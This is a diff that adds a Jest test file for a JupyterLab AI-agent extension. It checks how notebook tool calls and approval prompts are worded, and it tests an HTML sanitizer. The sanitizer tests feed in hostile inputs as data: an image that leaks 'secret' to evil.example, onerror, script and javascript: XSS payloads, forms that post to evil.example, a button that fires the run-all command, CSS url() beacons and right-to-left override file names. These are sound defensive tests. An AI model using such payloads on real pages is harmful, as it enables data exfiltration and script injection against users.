@@ -1,0 +1,246 @@
+import { nullTranslator } from '@jupyterlab/translation';
+import { Sanitizer } from '@jupyterlab/apputils/lib/sanitizer';
+import type { CallPart, IApproval, IChange } from '../../src/api/protocol';
+import { withoutRemoteContent } from '../../src/panel/sanitizer';
+import {
+  currentCall,
+  describeCall,
+  describeQuestions,
+  duration
+} from '../../src/wording/callDescriptions';
+
+const trans = nullTranslator.load('jupyter_agent');
+const ORDER = ['a1', 'b2', 'c3', 'd4', 'e5'];
+const locate = (id: string): number | null => ORDER.indexOf(id) + 1 || null;
+
+function said(toolName: string, input: object, rest: object = {}, changes: IChange[] = []): string {
+  const call = {
+    type: 'dynamic-tool',
+    toolCallId: 'toolu_1',
+    toolName,
+    input,
+    state: 'output-available',
+    output: { text: '', cells: 12 },
+    ...rest
+  } as CallPart;
+  const { text, note } = describeCall(call, changes, locate, trans);
+  return note ? `${text} (${note})` : text;
+}
+
+describe('describeCall', () => {
+  it.each([
+    ['get_notebook_state', {}, 'Read the notebook (12 cells)'],
+    ['read_cells', { cell_ids: ['a1', 'c3'] }, 'Read cells 1, 3'],
+    ['search_notebook', { query: 'df' }, 'Searched for “df”'],
+    ['create_cell', { after: 'b2', source: '' }, 'Added a cell after 2'],
+    ['update_cell', { cell_id: 'b2' }, 'Edited cell 2'],
+    ['delete_cell', { cell_id: 'gone' }, 'Deleted a cell'],
+    ['move_cell', { cell_id: 'b2', after: 'd4' }, 'Moved cell 2 below 4'],
+    ['move_cell', { cell_id: 'b2', before: 'a1' }, 'Moved cell 2 above 1'],
+    ['run_cells', { cell_ids: ['d4', 'b2', 'c3'] }, 'Ran cells 2–4'],
+    ['run_cells', {}, 'Ran all cells'],
+    ['inspect_variables', { names: ['df', 'x'] }, 'Looked at df, x'],
+    ['something_new', {}, 'Used something_new']
+  ])('says what %s did with %j', (tool, input, words) => {
+    expect(said(tool, input)).toBe(words);
+  });
+
+  it.each([
+    [
+      { ok: true, cells: [{ status: 'same' }, { status: 'same' }, { status: 'skipped' }] },
+      'Checked the notebook: all 2 cells show the same'
+    ],
+    [
+      { ok: false, cells: [{ status: 'same' }, { status: 'differs' }, { status: 'error' }] },
+      'Checked the notebook: 1 differ, 1 failed'
+    ],
+    [{ ok: false, cells: [{ status: 'error' }] }, 'Checked the notebook: 1 failed']
+  ])('says what a check of the notebook came to: %j', (output, words) => {
+    expect(said('verify_notebook', {}, { output })).toBe(words);
+  });
+
+  it('says what a check of the notebook would do, and which cell it is at', () => {
+    const asked = { state: 'approval-requested', approval: { id: 'a' }, output: undefined };
+    expect(said('verify_notebook', {}, asked)).toContain('Run a copy of the notebook from the top');
+    const running = { output: { text: '', running: 'c3' }, preliminary: true };
+    expect(said('verify_notebook', {}, running)).toBe('Checking the notebook, cell 3…');
+  });
+
+  it('says what is happening while it happens', () => {
+    const running = { state: 'input-available', output: undefined };
+    expect(said('run_cell', { cell_id: 'b2' }, running)).toBe('Running cell 2…');
+    expect(said('create_cell', undefined!, { state: 'input-streaming' })).toBe('Adding a cell…');
+  });
+
+  it('does not say that a call runs which stands behind a question', () => {
+    const call = {
+      type: 'dynamic-tool',
+      toolCallId: 'toolu_1',
+      toolName: 'run_cell',
+      input: { cell_id: 'b2' },
+      state: 'input-available'
+    } as CallPart;
+    expect(describeCall(call, [], locate, trans, { held: true }).text).toBe('Run cell 2');
+    expect(describeCall(call, [], locate, trans).text).toBe('Running cell 2…');
+  });
+
+  it('says how a run ended and how long it took', () => {
+    const output = { text: '', status: 'ok', cell_id: 'b2', seconds: 1.24, outputs: [] };
+    expect(said('run_cell', { cell_id: 'b2' }, { output })).toBe('Ran cell 2 (1.2 s  ok)');
+    const cells = [
+      { cell_id: 'b2', status: 'ok', seconds: 60, outputs: [] },
+      { cell_id: 'c3', status: 'error', seconds: 5, outputs: [] }
+    ];
+    expect(said('run_cells', {}, { output: { text: '', cells } })).toBe(
+      'Ran cells 2–3, stopped at an error in 3 (1 min 5 s  error)'
+    );
+  });
+
+  it('never says that something was done which was refused or failed', () => {
+    expect(said('run_cell', { cell_id: 'b2' }, { state: 'output-denied' })).toBe(
+      'Run cell 2 (not allowed)'
+    );
+    expect(said('update_cell', { cell_id: 'b2' }, { state: 'output-error' })).toBe(
+      'Edit cell 2 (failed)'
+    );
+  });
+
+  it('names a deleted cell by the place that it had', () => {
+    const change = { cell_id: 'x9', kind: 'delete', before: { index: 2 }, after: null };
+    expect(said('delete_cell', { cell_id: 'x9' }, {}, [change as IChange])).toBe('Deleted cell 3');
+  });
+});
+
+describe('describeQuestions', () => {
+  const ask = (tool: string, cell_id: string): IApproval => ({
+    id: `${tool}-${cell_id}`,
+    call_id: 'toolu_1',
+    tool,
+    input: { cell_id },
+    notebook: 'a.ipynb',
+    cell_id,
+    expires: ''
+  });
+
+  it.each([
+    ['Run cell 2', [ask('run_cell', 'b2')]],
+    ['Edit and run cell 2', [ask('update_cell', 'b2'), ask('run_cell', 'b2')]],
+    ['Make 2 changes', [ask('update_cell', 'b2'), ask('delete_cell', 'c3')]],
+    ['Make 1 change and run', [ask('update_cell', 'b2'), ask('run_cells', '')]],
+    ['Use del⟨U+202E⟩', [ask('del\u202e', '')]]
+  ])('says %s', (words, approvals) =>
+    expect(describeQuestions(approvals, locate, trans)).toBe(words)
+  );
+});
+
+describe('the notebook', () => {
+  const call = (tool: string, input: object, rest: object = {}): string => {
+    const part = {
+      type: 'dynamic-tool',
+      toolName: tool,
+      input,
+      state: 'output-available',
+      ...rest
+    };
+    return describeCall(part as CallPart, [], locate, trans, { notebook: 'a\u202e.ipynb' }).text;
+  };
+
+  it.each([
+    ['update_cell', { cell_id: 'b2' }, 'Edited cell 2 in a⟨U+202E⟩.ipynb'],
+    ['create_cell', { after: 'b2' }, 'Added a cell after 2 in a⟨U+202E⟩.ipynb'],
+    ['run_cells', {}, 'Ran all cells in a⟨U+202E⟩.ipynb'],
+    ['get_notebook_state', {}, 'Read a⟨U+202E⟩.ipynb'],
+    ['verify_notebook', {}, 'Checked a⟨U+202E⟩.ipynb'],
+    ['create_notebook', { path: 'b.ipynb' }, 'Created b.ipynb'],
+    ['read_file', { path: 'b.csv' }, 'Read b.csv']
+  ])('is named in what %s did with %j', (tool, input, words) => {
+    expect(call(tool, input)).toBe(words);
+  });
+
+  it('is named in a question', () => {
+    const ask = (id: string, tool: string, notebook: string): IApproval => ({
+      id,
+      call_id: id,
+      tool,
+      input: { cell_id: 'b2' },
+      notebook,
+      cell_id: 'b2',
+      expires: ''
+    });
+    const edit = ask('1', 'update_cell', 'a.ipynb');
+    const others = [ask('2', 'run_cell', 'b.ipynb'), ask('3', 'run_cell', 'a.ipynb')];
+    const words = (...approvals: IApproval[]): string =>
+      describeQuestions(approvals, locate, trans, true);
+    expect(words(edit)).toBe('Edit cell 2 in a.ipynb');
+    expect(words(edit, others[1])).toBe('Edit and run cell 2 in a.ipynb');
+    expect(words(edit, others[0])).toBe('Make 1 change and run in a.ipynb, b.ipynb'); // two cells of one id
+  });
+});
+
+describe('duration', () => {
+  it('is short for short ones', () => {
+    expect([0.04, 9.96, 12.4, 75].map(seconds => duration(seconds, trans))).toEqual([
+      '0.0 s',
+      '10.0 s',
+      '12 s',
+      '1 min 15 s'
+    ]);
+  });
+});
+
+describe('withoutRemoteContent', () => {
+  const { sanitize } = withoutRemoteContent(new Sanitizer());
+
+  it('makes links of pictures from elsewhere', () => {
+    const html = sanitize('<p>see <img src="https://evil.example/?q=secret" alt="a plot"></p>');
+    expect(html).not.toContain('<img');
+    expect(html).toContain('>a plot</a>');
+  });
+
+  it.each([
+    '<img src="x" onerror="alert(1)">',
+    '<video poster="https://evil.example/p"></video>',
+    '<img srcset="https://evil.example/p 2x">',
+    '<script>alert(1)</script>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<iframe src="https://evil.example"></iframe>'
+  ])('leaves nothing that loads or runs in %s', dirty => {
+    expect(sanitize(dirty)).not.toMatch(/src|poster|script|onerror|iframe/i);
+  });
+
+  it.each([
+    '<button data-commandlinker-command="runmenu:run-all">Go on</button>',
+    '<form action="https://evil.example"><label>Go <input name="key"></label>on</form>',
+    '<select><option>Go on</option></select>',
+    '<p accesskey="s">Go on</p>'
+  ])('leaves only the words of %s', dirty => {
+    const html = sanitize(dirty);
+    expect(html).not.toMatch(/command|button|form|input|select|option|accesskey/i);
+    expect(html.replace(/<[^>]*>/g, '')).toBe('Go on');
+  });
+
+  it('leaves no style that loads something or covers something', () => {
+    const html = sanitize(
+      '<p style="color: red; background: url(https://evil.example/p); position: absolute; top: 0">x</p>'
+    );
+    expect(html).toBe('<p style="color: red;">x</p>');
+  });
+
+  it('keeps pictures that carry their content', () => {
+    const picture = '<img src="data:image/png;base64,AAAA" />';
+    expect(sanitize(picture)).toContain('data:image/png');
+  });
+});
+
+describe('currentCall', () => {
+  const part = (toolCallId: string, state: string): CallPart =>
+    ({ type: 'dynamic-tool', toolName: 'run_cell', toolCallId, state }) as CallPart;
+
+  it('is the one that is being written, then one after the other', () => {
+    const [done, first] = [part('1', 'output-available'), part('2', 'input-available')];
+    const last = part('3', 'input-streaming');
+    expect(currentCall([done, first, last])).toBe(last);
+    expect(currentCall([done, first, part('3', 'input-available')])).toBe(first);
+    expect(currentCall([done])).toBeUndefined();
+  });
+});
